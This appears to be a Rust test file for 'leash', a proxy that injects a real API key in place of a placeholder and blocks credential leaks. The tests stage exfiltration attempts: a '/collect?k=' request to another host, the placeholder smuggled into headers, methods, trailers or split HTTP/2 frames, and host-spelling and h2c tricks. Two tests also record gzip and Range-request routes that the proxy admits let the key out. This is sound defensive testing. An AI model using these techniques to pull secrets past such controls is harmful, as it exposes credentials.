    assert!(log.iter().any(|l| l["error"] == "bad-response" && l["status"] == 502), "{log:#?}");
}

#[tokio::test]
async fn bytes_after_a_websocket_101_that_are_no_frames_end_the_connection() {
    let t = scene().await;
    let (head, wire) = upgrade(&t, "/upgrade-raw", &WEBSOCKET, "key=".len() + SECRET.len()).await;
    assert!(head.start.contains("101"), "{}", head.raw);
    provider_got_the_secret(&t);
    assert!(wire.is_empty(), "nothing of bytes leash cannot follow reached the client: {wire:?}");
    let log = t.leash.log_until("the outcome", |l| l.get("error").is_some()).await;
    assert!(log.iter().any(|l| l["error"] == "bad-response"), "{log:#?}");
}

#[tokio::test]
async fn an_h2c_upgrade_to_the_provider_is_not_relayed_so_no_flow_control_window_cuts_the_echo() {
    let t = scene().await;
    let h2c = ["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"];
    // The provider answers 101 and DATA frames of one byte each whatever it was asked.
    let (head, wire) = upgrade(&t, "/h2c", &h2c, h2_data_bytes(&format!("key={SECRET}")).len()).await;
    provider_got_the_secret(&t);
    assert!(head.start.contains("502"), "{}", head.raw);
    assert!(!String::from_utf8_lossy(&payloads(&wire, true)).contains(SECRET), "{wire:?}");
    let sent = t.tls.origin.requests();
    assert!(sent.iter().all(|r| r.header("upgrade").is_none() && r.header("http2-settings").is_none()), "{sent:#?}");
    assert!(!head.raw.contains(SECRET) && !String::from_utf8_lossy(&wire).contains(SECRET), "{wire:?}");
    let log = t.leash.log_until("the outcome", |l| l.get("error").is_some()).await;
    assert!(log.iter().any(|l| l["upgrade_dropped"] == "h2c"), "{log:#?}");
    assert!(!format!("{log:?}").contains(SECRET), "{log:#?}");
}

#[tokio::test]
async fn echo_in_a_response_to_a_request_without_the_placeholder_comes_back_as_the_placeholder() {
    let t = scene().await;
    let first = from_provider(&t, "/v1/messages", &[]).await;
    assert!(first.contains(&format!("your key: {PLACEHOLDER}, ok")), "{first}");
    // No placeholder on this one: nothing is put in, so leash watches nothing coming back.
    let raw = request(&t, "models.test", "GET /last", &["Connection: close"], "");
    let got = received(&t, "models.test", raw).await;
    placeholder_not_value(&t, &got, &format!("last key: {PLACEHOLDER}"));
}

// Outside the claim (the value is not quoted whole, as bytes): documented as they pass.

#[tokio::test]
async fn a_provider_that_compresses_despite_identity_hands_the_value_over_outside_the_claim() {
    let t = scene().await;
    let r = t
        .inner(
            "models.test",
            request(
                &t,
                "models.test",
                "GET /gzip",
                &[&format!("x-api-key: {PLACEHOLDER}"), "Accept-Encoding: gzip"],
                "",
            ),
        )
        .await;
    let sent = t.tls.origin.requests();
    assert_eq!(sent[0].all("accept-encoding"), ["identity"], "leash asks for no compression: {:?}", sent[0].head);
    assert_eq!(r.header("content-encoding"), Some("gzip"), "this provider compresses anyway");
    let plain = gzip(&r.body.bytes, true);
    assert_eq!(String::from_utf8_lossy(&plain), format!("key={SECRET}"), "the value, compressed, is not seen");
}

#[tokio::test]
async fn a_provider_honouring_range_hands_the_value_over_in_parts_outside_the_claim() {
    let t = scene().await;
    // "your key: " is 10 bytes; the value is bytes 10..34: two requests, one half each.
    let mut parts = Vec::new();
    for range in ["bytes=10-21", "bytes=22-33"] {
        let lines = [&format!("x-api-key: {PLACEHOLDER}") as &str, &format!("Range: {range}")];
        let r = t.inner("models.test", request(&t, "models.test", "GET /range", &lines, "")).await;
        assert_eq!(r.status, 206, "{}", r.text());
        parts.push(r.text());
    }
    assert_eq!(parts.concat(), SECRET, "each part alone is not the value; together they are");
}

// ---------------------------------------------------------------------------------------------------------------
// The provider's name under other spellings, and another name naming it
// ---------------------------------------------------------------------------------------------------------------

/// CONNECT `connect`, TLS as `sni` (`None`: an IP address, no SNI), then a provider request with the placeholder and
/// `Host: host`; everything received, or `None` where the CONNECT or the handshake was refused.
async fn spelled(t: &Inspecting, connect: &str, sni: &str, host: &str) -> Option<String> {
    let (c, status) = crate::support::tls::connect(t.leash.addr, connect).await;
    if status != 200 {
        return None;
    }
    let name = ServerName::try_from(sni.to_owned()).ok()?;
    let connector = TlsConnector::from(Arc::new(t.client_config(&[b"http/1.1"])));
    let mut tls = within("handshake", connector.connect(name, c.wire.io)).await.ok()?;
    let raw = format!("GET /v1 HTTP/1.1\r\nHost: {host}\r\nx-api-key: {PLACEHOLDER}\r\nConnection: close\r\n\r\n");
    tls.write_all(raw.as_bytes()).await.unwrap();
    tls.flush().await.unwrap();
    let mut got = Vec::new();
    let _ = within("leash to close the connection", tls.read_to_end(&mut got)).await;
    Some(String::from_utf8_lossy(&got).into_owned())
}

#[tokio::test]
async fn the_provider_in_uppercase_gets_the_value_only_at_home_and_the_echo_redacted() {
    let t = scene().await;
    let port = t.tls.port();
    let got = spelled(&t, &format!("MODELS.TEST:{port}"), "MODELS.TEST", &format!("MODELS.TEST:{port}")).await;
    let got = got.unwrap_or_default();
    assert!(!got.contains(SECRET), "{got}");
    secret_only_at_home(&t);
}

#[tokio::test]
async fn the_provider_with_a_trailing_dot_gets_the_value_only_at_home_and_the_echo_redacted() {
    let t = scene().await;
    let port = t.tls.port();
    let got = spelled(&t, &format!("models.test.:{port}"), "models.test.", &format!("models.test.:{port}")).await;
    assert!(!got.unwrap_or_default().contains(SECRET));
    secret_only_at_home(&t);
}

#[tokio::test]
async fn the_provider_by_its_ip_address_never_gets_the_value() {
    let t = scene().await;
    let port = t.tls.port();
    let got = spelled(&t, &format!("127.0.0.1:{port}"), "127.0.0.1", &format!("127.0.0.1:{port}")).await;
    let got = got.unwrap_or_default();
    assert!(!got.contains(SECRET), "{got}");
    assert!(!reached(&t, SECRET), "no request carried the value: {:#?}", t.tls.origin.requests());
}

#[tokio::test]
async fn a_host_header_naming_the_provider_inside_another_hosts_tunnel_never_gets_the_value() {
    let t = scene().await;
    let port = t.tls.port();
    let connect = format!("other.allowed.test:{port}");
    for host in [format!("models.test:{port}"), "models.test".to_owned()] {
        let got = spelled(&t, &connect, "other.allowed.test", &host).await.unwrap_or_default();
        assert!(got.starts_with("HTTP/1.1 403 "), "{host}: {got}");
    }
    assert!(t.tls.origin.requests().is_empty(), "{:#?}", t.tls.origin.requests());
}

#[tokio::test]
async fn a_plain_http_request_to_the_provider_under_any_spelling_is_refused() {
    let t = scene().await;
    for url in ["http://MODELS.TEST/v1", "http://models.test./v1", "http://models.test:80/v1"] {
        let raw = format!("GET {url} HTTP/1.1\r\nHost: models.test\r\nx-api-key: {PLACEHOLDER}\r\n\r\n");
        let r = exchange(t.leash.addr, raw).await;
        assert_eq!(r.status, 403, "{url}: {}", r.text());
        assert!(["credential-plaintext", "credential-leak"].contains(&r.reason()), "{url}: {}", r.reason());
    }
}

// ---------------------------------------------------------------------------------------------------------------
// Tunnels leash does not inspect, and the CONNECT itself
// ---------------------------------------------------------------------------------------------------------------

#[tokio::test]
async fn a_tunnel_leash_does_not_inspect_carries_only_the_worthless_placeholder() {
    let t = scene().await;
    let port = t.tls.port();
    let (c, status) = crate::support::tls::connect(t.leash.addr, &format!("sub.allowed.test:{port}")).await;
    assert_eq!(status, 200);
    // The origin's own certificate: the tunnel is spliced, leash reads nothing inside it.
    let connector = TlsConnector::from(Arc::new(t.ca.client_config()));
    let name = ServerName::try_from("sub.allowed.test").unwrap();
    let mut tls = within("handshake with the origin", connector.connect(name, c.wire.io)).await.unwrap();
    let raw = format!(
        "POST /collect?k={PLACEHOLDER} HTTP/1.1\r\nHost: sub.allowed.test:{port}\r\nx-api-key: {PLACEHOLDER}\r\n\
         Content-Length: {}\r\n\r\n{PLACEHOLDER}",
        PLACEHOLDER.len()
    );
    tls.write_all(raw.as_bytes()).await.unwrap();
    tls.flush().await.unwrap();
    let r = within("response", read_response(&mut Wire::new(tls), "POST")).await.unwrap();
    assert_eq!(r.status, 200);
    let seen = t.tls.origin.requests();
    assert_eq!(seen[0].header("x-api-key"), Some(PLACEHOLDER), "the placeholder went as it was, unseen");
    assert!(!reached(&t, SECRET), "the value is nowhere: the client never had it");
    assert_eq!(t.leash.decision("sub.allowed.test").await["decision"], "allow", "spliced, not inspected");
}

#[tokio::test]
async fn placeholder_in_the_connect_host_name_is_refused() {
    let t = scene().await;
    let name = format!("{PLACEHOLDER}.allowed.test");
    let (c, status) = crate::support::tls::connect(t.leash.addr, &format!("{name}:{}", t.tls.port())).await;
    if status == 200 {
        // The client's ClientHello names it too; leash dials on it (the handshake itself fails: no such leaf).
        let connector = TlsConnector::from(Arc::new(t.ca.client_config()));
        let _ = within("handshake", connector.connect(ServerName::try_from(name.clone()).unwrap(), c.wire.io)).await;
    }
    assert!(!t.leash.resolver.asked().contains(&name), "resolved: {:?}", t.leash.resolver.asked());
    assert_eq!(status, 403, "the CONNECT is refused");
}

// ---------------------------------------------------------------------------------------------------------------
// A raw TLS origin for `other.allowed.test`: every byte it receives, framing included
// ---------------------------------------------------------------------------------------------------------------

/// Records every byte received and answers `200 ok` to each request it sees end (a head and a chunked body: two
/// blank lines); `ended` is notified when a connection ends.
struct RawOrigin {
    port: u16,
    got: Arc<Mutex<Vec<u8>>>,
    ended: Arc<Notify>,
}

impl RawOrigin {
    async fn start(ca: &TestCa) -> RawOrigin {
        let acceptor = TlsAcceptor::from(Arc::new(ca.server_config(&["other.allowed.test"])));
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let (got, ended) = (Arc::new(Mutex::new(Vec::new())), Arc::new(Notify::new()));
        let (g, e) = (got.clone(), ended.clone());
        tokio::spawn(async move {
            while let Ok((tcp, _)) = listener.accept().await {
                let (acceptor, g, e) = (acceptor.clone(), g.clone(), e.clone());
                tokio::spawn(async move {
                    if let Ok(mut tls) = acceptor.accept(tcp).await {
                        let (mut pending, mut buf) = (Vec::new(), [0u8; 4096]);
                        while let Ok(n @ 1..) = tls.read(&mut buf).await {
                            g.lock().unwrap().extend_from_slice(&buf[..n]);
                            pending.extend_from_slice(&buf[..n]);
                            let blank_lines = pending.windows(4).filter(|w| w == b"\r\n\r\n").count();
                            if pending.ends_with(b"\r\n\r\n") && blank_lines >= 2 {
                                pending.clear();
                                let ok = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
                                if tls.write_all(ok).await.and(tls.flush().await).is_err() {
                                    break;
                                }
                            }
                        }
                    }
                    e.notify_one();
                });
            }
        });
        RawOrigin { port, got, ended }
    }

    fn got(&self) -> String {
        String::from_utf8_lossy(&self.got.lock().unwrap()).into_owned()
    }

    async fn tunnel(&self, t: &Inspecting) -> tokio_rustls::client::TlsStream<tokio::net::TcpStream> {
        let (c, status) =
            crate::support::tls::connect(t.leash.addr, &format!("other.allowed.test:{}", self.port)).await;
        assert_eq!(status, 200);
        let connector = TlsConnector::from(Arc::new(t.client_config(&[b"http/1.1"])));
        let name = ServerName::try_from("other.allowed.test").unwrap();
        within("handshake", connector.connect(name, c.wire.io)).await.unwrap()
    }

    /// `POST /upload` with this chunked body; the response.
    async fn send(&self, t: &Inspecting, chunked: &str) -> Resp {
        let mut tls = self.tunnel(t).await;
        let head = format!(
            "POST /upload HTTP/1.1\r\nHost: other.allowed.test:{}\r\nTransfer-Encoding: chunked\r\n\r\n",
            self.port
        );
        tls.write_all(format!("{head}{chunked}").as_bytes()).await.unwrap();
        tls.flush().await.unwrap();
        within("response", read_response(&mut Wire::new(tls), "POST")).await.unwrap()
    }
}

async fn raw_scene() -> (RawOrigin, Inspecting) {
    let ca = TestCa::new();
    let raw = RawOrigin::start(&ca).await;
    let tls = TlsUpstream::start(&ca).await;
    let yaml = policy(&[raw.port, tls.port()]);
    let leash = Leash::builder(&yaml).inspecting(&ca.pem).secrets(secrets()).start().await;
    (raw, Inspecting { ca, tls, leash })
}

// ---------------------------------------------------------------------------------------------------------------
// HTTP/2: one origin for both names; `models.test` echoes the key in a header, two DATA frames and a trailer
// ---------------------------------------------------------------------------------------------------------------

/// A stream as the HTTP/2 origin saw it (the body as far as it arrived).
#[derive(Debug, Clone)]
struct H2Seen {
    target: String,
    headers: HeaderMap,
    body: Vec<u8>,
    trailers: Option<HeaderMap>,
}

impl H2Seen {
    fn carries(&self, needle: &str) -> bool {
        let fields = |m: &HeaderMap| {
            m.iter().any(|(n, v)| n.as_str().contains(needle) || String::from_utf8_lossy(v.as_bytes()).contains(needle))
        };
        self.target.contains(needle)
            || fields(&self.headers)
            || self.trailers.as_ref().is_some_and(fields)
            || String::from_utf8_lossy(&self.body).contains(needle)
    }
}

struct H2Server {
    port: u16,
    seen: Arc<Mutex<Vec<H2Seen>>>,
}

impl H2Server {
    async fn start(ca: &TestCa) -> H2Server {
        let seen = Arc::new(Mutex::new(Vec::new()));
        let last = Arc::new(Mutex::new(String::new()));
        let (s, l) = (seen.clone(), last.clone());
        let names = ["models.test", "other.allowed.test"];
        let (port, _) =
            crate::support::tls::serve_h2_tls(ca, &names, move |req| h2_answer(req, s.clone(), l.clone())).await;
        H2Server { port, seen }
    }

    fn seen(&self) -> Vec<H2Seen> {
        self.seen.lock().unwrap().clone()
    }

    fn any_carries(&self, needle: &str) -> bool {
        self.seen().iter().any(|s| s.carries(needle))
    }
}

async fn h2_answer(
    req: Request<Incoming>,
    seen: Arc<Mutex<Vec<H2Seen>>>,
    last: Arc<Mutex<String>>,
) -> Result<Response<Frames>, Infallible> {
    let authority = req.uri().host().unwrap_or_default().to_owned();
    let target = req.uri().path_and_query().map(|p| p.to_string()).unwrap_or_default();
    let headers = req.headers().clone();
    let mut incoming = req.into_body();
    let (mut body, mut trailers) = (Vec::new(), None);
    while let Some(Ok(frame)) = incoming.frame().await {
        match frame.into_data() {
            Ok(data) => body.extend_from_slice(&data),
            Err(frame) => trailers = frame.into_trailers().ok(),
        }
    }
    seen.lock().unwrap().push(H2Seen { target: target.clone(), headers: headers.clone(), body, trailers });
    let key = headers.get("x-api-key").map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned());
    if authority == "models.test" && key.as_deref() == Some(SECRET) {
        *last.lock().unwrap() = SECRET.to_owned();
        let mut trailer = HeaderMap::new();
        trailer.insert("x-echo", HeaderValue::from_static(SECRET));
        // The key as a field's name too (it is a valid lowercase one).
        trailer.insert(HeaderName::from_static(SECRET), HeaderValue::from_static("in-a-trailer-name"));
        let frames = vec![
            Frame::data(Bytes::from("key=sk-real-01234")),
            Frame::data(Bytes::from("56789abcdef.")),
            Frame::trailers(trailer),
        ];
        let mut response = Response::new(Frames::new(frames));
        response.headers_mut().insert("x-echo", HeaderValue::from_static(SECRET));
        response.headers_mut().insert(HeaderName::from_static(SECRET), HeaderValue::from_static("in-a-name"));
        return Ok(response);
    }
    let text = match target.as_str() {
        "/last" => format!("last={}", last.lock().unwrap()),
        _ => "ok".to_owned(),
    };
    Ok(Response::new(Frames::new(vec![Frame::data(Bytes::from(text))])))
}

/// leash in front of the HTTP/2 origin.
async fn h2_scene() -> (H2Server, Inspecting) {
    let ca = TestCa::new();
    let server = H2Server::start(&ca).await;
    let tls = TlsUpstream::start(&ca).await;
    let leash = Leash::builder(&policy(&[server.port])).inspecting(&ca.pem).secrets(secrets()).start().await;
    (server, Inspecting { ca, tls, leash })
}

/// An HTTP/2 connection inside a tunnel: CONNECT `host`, TLS as `sni`.
async fn h2_client(t: &Inspecting, port: u16, host: &str, sni: &str) -> SendRequest<Frames> {
    let (c, status) = crate::support::tls::connect(t.leash.addr, &format!("{host}:{port}")).await;
    assert_eq!(status, 200);
    let connector = TlsConnector::from(Arc::new(t.client_config(&[b"h2"])));
    let name = ServerName::try_from(sni.to_owned()).unwrap();
    let tls = within("handshake", connector.connect(name, c.wire.io)).await.unwrap();
    let (send, conn) = hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(tls)).await.unwrap();
    tokio::spawn(conn);
    send
}

/// Send `req`; its status, `x-leash-reason`, body and trailers.
async fn h2_send(send: &mut SendRequest<Frames>, req: Request<Frames>) -> (u16, String, String, Option<HeaderMap>) {
    let resp = within("h2 response", send.send_request(req)).await.unwrap();
    let status = resp.status().as_u16();
    let reason = resp.headers().get("x-leash-reason").map(|v| v.to_str().unwrap().to_owned()).unwrap_or_default();
    let collected = within("h2 body", resp.into_body().collect()).await.unwrap();
    let trailers = collected.trailers().cloned();
    (status, reason, String::from_utf8_lossy(&collected.to_bytes()).into_owned(), trailers)
}

fn h2_request(method: Method, url: &str, headers: &[(&str, &str)], frames: Vec<Frame<Bytes>>) -> Request<Frames> {
    let mut b = Request::builder().method(method).uri(url);
    for (n, v) in headers {
        b = b.header(*n, *v);
    }
    b.body(Frames::new(frames)).unwrap()
}

/// An HTTP/2 stream to `other.allowed.test` is refused as a leak, and nothing carrying the placeholder arrives.
async fn h2_refused(method: Method, path: &str, headers: &[(&str, &str)], frames: Vec<Frame<Bytes>>) {
    let (server, t) = h2_scene().await;
    let mut send = h2_client(&t, server.port, "other.allowed.test", "other.allowed.test").await;
    let url = format!("https://other.allowed.test:{}{path}", server.port);
    let (status, reason, body, _) = h2_send(&mut send, h2_request(method, &url, headers, frames)).await;
    assert_eq!((status, reason.as_str()), (403, "credential-leak"), "{body}");
    assert!(!server.any_carries(PLACEHOLDER), "{:#?}", server.seen());
}

#[tokio::test]
async fn h2_placeholder_in_the_path_is_refused() {
    h2_refused(Method::GET, &format!("/collect?k={PLACEHOLDER}"), &[], vec![]).await;
}

#[tokio::test]
async fn h2_placeholder_in_a_header_is_refused() {
    h2_refused(Method::GET, "/x", &[("cookie", &format!("k={PLACEHOLDER}"))], vec![]).await;
}

#[tokio::test]
async fn h2_placeholder_split_across_data_frames_is_refused() {
    let frames = ["k=leash-", "placeholde", "r-abc123&more"].into_iter().map(|s| Frame::data(Bytes::from(s))).collect();
    h2_refused(Method::POST, "/upload", &[], frames).await;
}

#[tokio::test]
async fn h2_placeholder_as_a_header_name_is_refused() {
    h2_refused(Method::GET, "/x", &[(PLACEHOLDER, "1")], vec![]).await;
}

#[tokio::test]
async fn h2_placeholder_as_the_method_is_refused() {
    h2_refused(Method::from_bytes(PLACEHOLDER.as_bytes()).unwrap(), "/x", &[], vec![]).await;
}

#[tokio::test]
async fn h2_placeholder_in_request_trailers_is_refused() {
    let mut trailer = HeaderMap::new();
    trailer.insert("x-note", HeaderValue::from_static(PLACEHOLDER));
    h2_refused(Method::POST, "/upload", &[], vec![Frame::data(Bytes::from("ok")), Frame::trailers(trailer)]).await;
}

#[tokio::test]
async fn h2_the_providers_authority_under_another_sni_never_gets_the_value() {
    let (server, t) = h2_scene().await;
    let mut send = h2_client(&t, server.port, "other.allowed.test", "other.allowed.test").await;
    let url = format!("https://models.test:{}/v1", server.port);
    let req = h2_request(Method::GET, &url, &[("x-api-key", PLACEHOLDER)], vec![]);
    let (status, reason, body, _) = h2_send(&mut send, req).await;
    assert_eq!((status, reason.as_str()), (403, "host-mismatch"), "{body}");
    assert!(server.seen().is_empty(), "{:#?}", server.seen());
}

#[tokio::test]
async fn h2_echo_in_a_header_data_frames_and_a_trailer_comes_back_as_the_placeholder() {
    let (server, t) = h2_scene().await;
    let mut send = h2_client(&t, server.port, "models.test", "models.test").await;
    let url = format!("https://models.test:{}/v1", server.port);
    let req = h2_request(Method::GET, &url, &[("x-api-key", PLACEHOLDER)], vec![]);
    let resp = within("h2 response", send.send_request(req)).await.unwrap();
    assert_eq!(resp.headers().get("x-echo").unwrap(), PLACEHOLDER, "the echoed field");
    let collected = within("h2 body", resp.into_body().collect()).await.unwrap();
    assert_eq!(collected.trailers().unwrap().get("x-echo").unwrap(), PLACEHOLDER, "the echoed trailer");
    assert_eq!(collected.to_bytes(), format!("key={PLACEHOLDER}."), "the echo across two frames");
    assert_eq!(server.seen()[0].headers.get("x-api-key").unwrap(), SECRET);
}

#[tokio::test]
async fn h2_echo_in_a_response_header_name_and_a_trailer_name_comes_back_as_the_placeholder() {
    let (server, t) = h2_scene().await;
    let mut send = h2_client(&t, server.port, "models.test", "models.test").await;
    let url = format!("https://models.test:{}/v1", server.port);
    let req = h2_request(Method::GET, &url, &[("x-api-key", PLACEHOLDER)], vec![]);
    let resp = within("h2 response", send.send_request(req)).await.unwrap();
    let named = |m: &HeaderMap, value: &str| {
        let names: Vec<&str> = m.iter().filter(|(_, v)| *v == value).map(|(n, _)| n.as_str()).collect();
        assert_eq!(names, [PLACEHOLDER], "{m:?}");
    };
    named(resp.headers(), "in-a-name");
    let collected = within("h2 body", resp.into_body().collect()).await.unwrap();
    named(collected.trailers().unwrap(), "in-a-trailer-name");
    assert_eq!(server.seen()[0].headers.get("x-api-key").unwrap(), SECRET);
}

#[tokio::test]
async fn h2_echo_in_a_response_to_a_stream_without_the_placeholder_comes_back_as_the_placeholder() {
    let (server, t) = h2_scene().await;
    let mut send = h2_client(&t, server.port, "models.test", "models.test").await;
    let url = |p: &str| format!("https://models.test:{}{p}", server.port);
    let first = h2_request(Method::GET, &url("/v1"), &[("x-api-key", PLACEHOLDER)], vec![]);
    assert_eq!(h2_send(&mut send, first).await.2, format!("key={PLACEHOLDER}."));
    let (status, _, body, _) = h2_send(&mut send, h2_request(Method::GET, &url("/last"), &[], vec![])).await;
    assert_eq!(status, 200);
    assert!(!body.contains(SECRET), "the value reached the client: {body}");
}

// ---------------------------------------------------------------------------------------------------------------
// Issue 25: forms of the value leash writes, compression, several credentials
// ---------------------------------------------------------------------------------------------------------------

/// A provider that quotes whatever `authorization` and `x-api-key` it got, valid or not, in a field and its body.
fn quoting(r: &Recorded) -> Reply {
    let got = format!(
        "authorization={} x-api-key={}",
        r.header("authorization").unwrap_or(""),
        r.header("x-api-key").unwrap_or("")
    );
    Reply::Full { status: 401, headers: vec![("X-Got".to_owned(), got.clone())], body: got.into_bytes() }
}

/// leash with `entry` (YAML lines of one credential for `models.test`) before the quoting provider.
async fn quoting_scene(entry: &str) -> Inspecting {
    let ca = TestCa::new();
    let tls = TlsUpstream::with(&ca, quoting).await;
    let yaml = policy(&[tls.port()]);
    let yaml = format!("{}{entry}", &yaml[..yaml.find("    - name: provider").unwrap()]);
    let leash = Leash::builder(&yaml).inspecting(&ca.pem).secrets(secrets()).start().await;
    Inspecting { ca, tls, leash }
}

fn b64_no_pad(text: &str) -> String {
    base64::engine::general_purpose::STANDARD_NO_PAD.encode(text)
}

#[tokio::test]
async fn a_basic_authorization_in_a_non_basic_entrys_header_is_not_rewritten_so_its_quote_holds_no_value() {
    let t = quoting_scene("    - name: provider\n      hosts: [models.test]\n      env: K\n      header: x-api-key\n")
        .await;
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("u:{PLACEHOLDER}"));
    let got = from_provider_with(&t, &[&format!("x-api-key: Basic {basic}")]).await;
    let secret_b64 = b64_no_pad(&format!("u:{SECRET}"));
    assert!(!got.contains(&secret_b64[..secret_b64.len() - 4]), "the value's base64 came back: {got}");
    assert!(
        !reached(&t, &secret_b64[..secret_b64.len() - 4]),
        "rewritten inside Basic: {:#?}",
        t.tls.origin.requests()
    );
    assert!(got.contains(&basic), "the placeholder went as it was: {got}");
}

#[tokio::test]
async fn a_basic_entrys_added_authorization_echoed_comes_back_in_the_placeholders_form() {
    let entry = "    - name: provider\n      hosts: [models.test]\n      env: K\n      header: authorization\n      \
                 basic: x-access-token\n      add: true\n";
    let t = quoting_scene(entry).await;
    let raw = request(&t, "models.test", "GET /v1", &["Connection: close"], "");
    let got = received(&t, "models.test", raw).await;
    let sent = b64_no_pad(&format!("x-access-token:{SECRET}"));
    assert!(reached(&t, &sent), "the provider got the added header: {:#?}", t.tls.origin.requests());
    assert!(!got.contains(&sent[..sent.len() - 4]), "the value's base64 came back: {got}");
    let placeholder = base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{PLACEHOLDER}"));
    assert!(got.contains(&format!("X-Got: authorization=Basic {placeholder} ")), "in the field: {got}");
    assert!(got.ends_with(&format!("authorization=Basic {placeholder} x-api-key=")), "in the body: {got}");
}

#[tokio::test]
async fn a_basic_entry_rewrites_a_basic_authorization_to_its_own_form() {
    let entry = "    - name: provider\n      hosts: [models.test]\n      env: K\n      header: authorization\n      \
                 basic: x-access-token\n";
    let t = quoting_scene(entry).await;
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("someone:{PLACEHOLDER}"));
    let got = from_provider_with(&t, &[&format!("Authorization: Basic {basic}")]).await;
    let sent = base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{SECRET}"));
    assert_eq!(t.tls.origin.requests()[0].header("authorization"), Some(format!("Basic {sent}").as_str()));
    assert!(!got.contains(&sent[..sent.len() - 4]), "{got}");
}

/// Everything the client receives for a `GET /v1` to the provider with `lines` and `Connection: close`.
async fn from_provider_with(t: &Inspecting, lines: &[&str]) -> String {
    let lines: Vec<&str> = lines.iter().copied().chain(["Connection: close"]).collect();
    received(t, "models.test", request(t, "models.test", "GET /v1", &lines, "")).await
}

#[tokio::test]
async fn every_request_to_the_providers_host_asks_for_no_compression_not_only_one_carrying_the_placeholder() {
    let t = scene().await;
    let got = from_provider_with(&t, &["Accept-Encoding: gzip"]).await;
    assert!(got.starts_with("HTTP/1.1 401"), "no placeholder, no key: {got}");
    assert_eq!(t.tls.origin.requests()[0].header("accept-encoding"), Some("identity"));
    let (server, t) = h2_scene().await;
    let mut send = h2_client(&t, server.port, "models.test", "models.test").await;
    let url = format!("https://models.test:{}/last", server.port);
    let _ = h2_send(&mut send, h2_request(Method::GET, &url, &[("accept-encoding", "gzip")], vec![])).await;
    assert_eq!(server.seen()[0].headers["accept-encoding"], "identity", "HTTP/2 alike");
}

const SECOND_SECRET: &str = "sk-second-0123456789abcd";
const SECOND_PLACEHOLDER: &str = "leash-second-00112233445";

/// The scene with a second credential (`second.test`, `x-second-key`) listed after the provider's.
async fn two_credentials() -> Inspecting {
    let ca = TestCa::new();
    let tls = TlsUpstream::with(&ca, provider(Arc::default())).await;
    let yaml = format!(
        "{}    - name: second\n      hosts: [second.test]\n      env: SECOND_KEY\n      header: x-second-key\n",
        policy(&[tls.port()])
    );
    let both = Secrets::new(vec![
        Secret::new("provider", SECRET, PLACEHOLDER).unwrap(),
        Secret::new("second", SECOND_SECRET, SECOND_PLACEHOLDER).unwrap(),
    ]);
    let leash = Leash::builder(&yaml).inspecting(&ca.pem).secrets(both).start().await;
    Inspecting { ca, tls, leash }
}

#[tokio::test]
async fn the_hosts_own_placeholder_does_not_hide_another_credentials_in_the_same_url_or_header() {
    let t = two_credentials().await;
    let own = format!("x-api-key: {PLACEHOLDER}");
    let in_url = format!("GET /v1?a={PLACEHOLDER}&b={SECOND_PLACEHOLDER}");
    assert_refused(
        &t.inner("models.test", request(&t, "models.test", &in_url, &[&own], "")).await,
        403,
        "credential-leak",
    );
    let in_header = format!("X-Note: {PLACEHOLDER} {SECOND_PLACEHOLDER}");
    let r = t.inner("models.test", request(&t, "models.test", "GET /v1", &[&own, &in_header], "")).await;
    assert_refused(&r, 403, "credential-leak");
    let in_body = format!("{PLACEHOLDER}&{SECOND_PLACEHOLDER}");
    let r = t.inner("models.test", request(&t, "models.test", "POST /v1", &[&own], &in_body)).await;
    assert_refused(&r, 403, "credential-leak");
    assert!(!reached(&t, SECOND_PLACEHOLDER), "{:#?}", t.tls.origin.requests());
    let line = t.leash.decision(&format!("/v1?a={PLACEHOLDER}&b={SECOND_PLACEHOLDER}")).await;
    assert!(line.to_string().contains("second"), "the warning names the other credential: {line}");
}
